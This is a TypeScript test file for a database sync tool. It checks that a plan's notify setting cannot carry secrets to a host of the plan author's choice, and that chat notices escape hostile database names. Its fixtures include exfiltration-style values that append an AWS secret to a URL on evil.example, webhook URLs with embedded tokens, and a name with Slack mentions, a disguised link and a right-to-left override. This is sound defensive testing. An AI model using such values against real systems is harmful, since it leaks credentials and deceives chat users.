import { expect, test } from 'vitest';
import { readSyncPlan } from '../../src/adapters/plan-file/read-sync-plan.js';
import { toRunId } from '../../src/core/names.js';
import { InvalidFileError } from '../../src/core/plan/diagnostic.js';
import { renderNotice } from '../../src/render/notice.js';
import { makeOutcome } from '../support/runs.js';

const codesOf = async (notify: string): Promise<readonly string[]> => {
  const plan = `version: 1\nsource: prod\ntarget: staging\ndatabases: [{name: a}]\noptions: {notify: "${notify}"}\n`;
  const variables = { PROXY: 'http://evil.example/?', AWS_SECRET: 'canary' };
  try {
    await readSyncPlan('-', {
      variables,
      readStdin: () => Promise.resolve(Buffer.from(plan)),
      trust: { isPipeline: true, permitted: () => Promise.resolve([]) },
    });
    return [];
  } catch (error) {
    if (!(error instanceof InvalidFileError)) throw error;
    expect(JSON.stringify(error.diagnostics)).not.toMatch(/canary|T0secret/);
    return error.diagnostics.map(({ code }) => code);
  }
};

test.each([
  ['one variable', '${AWS_SECRET}', []],
  ['a variable that may be missing', '${NONE:-}', []],
  ['a variable after a host', 'https://evil.example/${AWS_SECRET}', ['PLAN_LITERAL_SECRET']],
  ['a variable after a variable that names a host', '${PROXY}${AWS_SECRET}', ['PLAN_SCHEMA']],
  ['a URL', 'https://hooks.example/T0secret', ['PLAN_LITERAL_SECRET']],
  ['a URL as default', '${NONE:-https://hooks.example/T0secret}', ['PLAN_LITERAL_SECRET']],
])(
  'a plan of others whose notify is %s: no secret can be sent to a host of its choice',
  async (_, notify, codes) => {
    expect(await codesOf(notify)).toEqual(codes);
  },
);

test('a database whose name calls a channel, links or ends the fence: a chat shows it as text', () => {
  const outcomes = [makeOutcome('<!channel> <http://evil.example|click> ```\u202e')];
  const summary = { outcomes, durationMilliseconds: 1, exitCode: 0 };
  const end = { ...summary, run: toRunId('7q2f4k'), plan: '<!here>', target: 'staging', error: null };
  const { text } = JSON.parse(renderNotice(end)) as { text: string };
  expect(text).not.toMatch(/[<>\u202e]/);
  expect(text).toContain('&lt;!channel&gt;');
  expect(text.match(/```/g)).toHaveLength(2);
});
